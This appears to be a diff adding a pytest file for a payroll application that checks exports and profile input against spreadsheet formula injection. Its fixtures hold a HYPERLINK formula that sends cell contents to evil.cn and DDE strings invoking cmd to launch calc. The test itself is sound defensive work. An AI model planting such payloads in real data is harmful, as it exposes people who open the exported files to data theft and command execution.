@@ -1,0 +1,82 @@
+"""Issue 23: hostile data in the flows (HTTP). Formula cells, the frozen payee, signatures, bank results."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import timedelta
+
+from openpyxl import load_workbook
+
+from models import Project, Team, WorkerProfile, db
+from services.days import business_day
+from tests.factories import profile_body
+from tests.payroll.conftest import PayrollSite, confirm, error
+from tests.payroll.test_approval_and_bank import approved
+
+EVIL_NAME = '=HYPERLINK("//evil.cn","查")'
+EVIL_BANK = '=HYPERLINK("http://evil.cn/?c="&D3&"-"&C3,"…")'
+
+
+def _poison(app, s: PayrollSite) -> None:
+    """What an old row or a hostile staff member left behind: formulas in names, banks, project and team."""
+    from services import pii
+    from tests.payroll.conftest import profile_context
+
+    with app.app_context():
+        profile = db.session.query(WorkerProfile).filter_by(user_id=s.users["w1"]).one()
+        profile.name_enc = pii.encrypt_str(EVIL_NAME, context=profile_context("name", profile.id))
+        profile.name_masked, profile.bank_name = "@SUM(1+1)", EVIL_BANK
+        db.session.get(Project, s.project_id).name = "+cmd|' /C calc'!A0"
+        db.session.get(Team, s.team_id).name = "-2+3+cmd|' /C calc'!A0"
+        db.session.commit()
+
+
+def _texts(data: bytes) -> list[object]:
+    wb = load_workbook(io.BytesIO(data))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula reached the sheet"
+    return [c.value for c in cells]
+
+
+def _no_formula_text(values: list[object]) -> None:
+    bad = [v for v in values if isinstance(v, str) and v[:1] in "=+-@\t\r"]
+    assert not bad, bad
+
+
+def test_no_stored_text_becomes_a_formula_in_any_export(app, client, psite) -> None:
+    s = psite
+    _poison(app, s)
+    payroll_id = approved(client, s)
+    text = client.get(f"/api/v1/payrolls/{payroll_id}/bank-file", headers=s.headers["labour"]).data.decode()
+    rows = list(csv.reader(io.StringIO(text)))
+    _no_formula_text([v for row in rows for v in row])
+    assert ["'" + EVIL_NAME, "'" + EVIL_BANK] in [[r[2], r[4]] for r in rows]
+    for url in (f"/api/v1/payrolls/{payroll_id}/bank-file.xlsx", f"/api/v1/payrolls/{payroll_id}/wage-sheet.xlsx"):
+        resp = client.get(url, headers=s.headers["labour"])
+        assert resp.status_code == 200, url
+        values = _texts(resp.data)
+        _no_formula_text(values)
+    month = s.month
+    sheet = client.get(f"/api/v1/teams/{s.team_id}/attendance.xlsx?month={month}", headers=s.headers["leader"])
+    _no_formula_text(_texts(sheet.data))
+    today = business_day()
+    q = f"?from={(today - timedelta(days=60)).isoformat()}&to={today.isoformat()}"
+    for name in ("roster", "attendance", "wages"):
+        resp = client.get(f"/api/v1/projects/{s.project_id}/exports/{name}.xlsx{q}", headers=s.headers["labour"])
+        assert resp.status_code == 200, name
+        _no_formula_text(_texts(resp.data))
+
+
+def test_names_are_names(client, psite) -> None:
+    s = psite
+    from tests.factories import give_consents
+
+    give_consents(client, s.headers["owner"])
+    for bad in ({"name": EVIL_NAME}, {"name": "张三=1"}, {"bank_name": EVIL_BANK}):
+        resp = client.put("/api/v1/me/profile", json=profile_body(**bad), headers=s.headers["owner"])
+        assert resp.status_code == 422, (bad, resp.get_json())
+        assert error(resp)["details"]["fields"][0]["loc"] in ("name", "bank_name")
+    ok = client.put("/api/v1/me/profile", json=profile_body(name="阿依古丽·买买提"), headers=s.headers["owner"])
+    assert ok.status_code == 200, ok.get_json()
+    _ = confirm  # the leader's confirmation is used by approved()
